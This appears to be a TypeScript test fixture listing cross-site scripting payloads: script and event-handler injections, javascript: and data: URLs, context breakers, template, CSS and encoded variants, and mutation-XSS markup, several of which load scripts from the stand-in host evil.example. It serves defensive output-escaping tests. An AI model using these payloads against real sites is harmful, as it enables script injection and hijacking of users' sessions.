/**
 * Cross-site scripting payloads, shared by the browser specs and the server's tests: each one, if it
 * ever ran, calls alert/confirm/prompt/print or loads something from evil.example, so a spec that
 * traps those and every request sees it. Kept under MAX_NAME_LENGTH (120) so each fits every field.
 */
export const EVIL_ORIGIN = 'https://evil.example';

export const XSS_PAYLOADS: readonly string[] = [
  // Classic script and event-handler injection.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<IMG SRC=javascript:alert(1)>',
  '<img src=x:x onerror="confirm(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // javascript:, data: and vbscript: URLs, mixed case, padded with spaces and controls.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjava\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  'https://shop.example/"><script>alert(1)</script>',
  "https://shop.example/'onmouseover='alert(1)",
  'https://evil.example/?<img src=x onerror=alert(1)>',
  // Attribute and context breakers.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '"onmouseover="alert(1)" x="',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  // Template syntax and CSS.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  // Escaped and encoded forms.
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\u202E<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  // Mutation XSS: markup that re-parses into script when serialised and parsed again.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<a href="https:&#x2F;&#x2F;evil.example&#x2F;">x</a>',
  '<img src=`x`onerror=print()>',
];
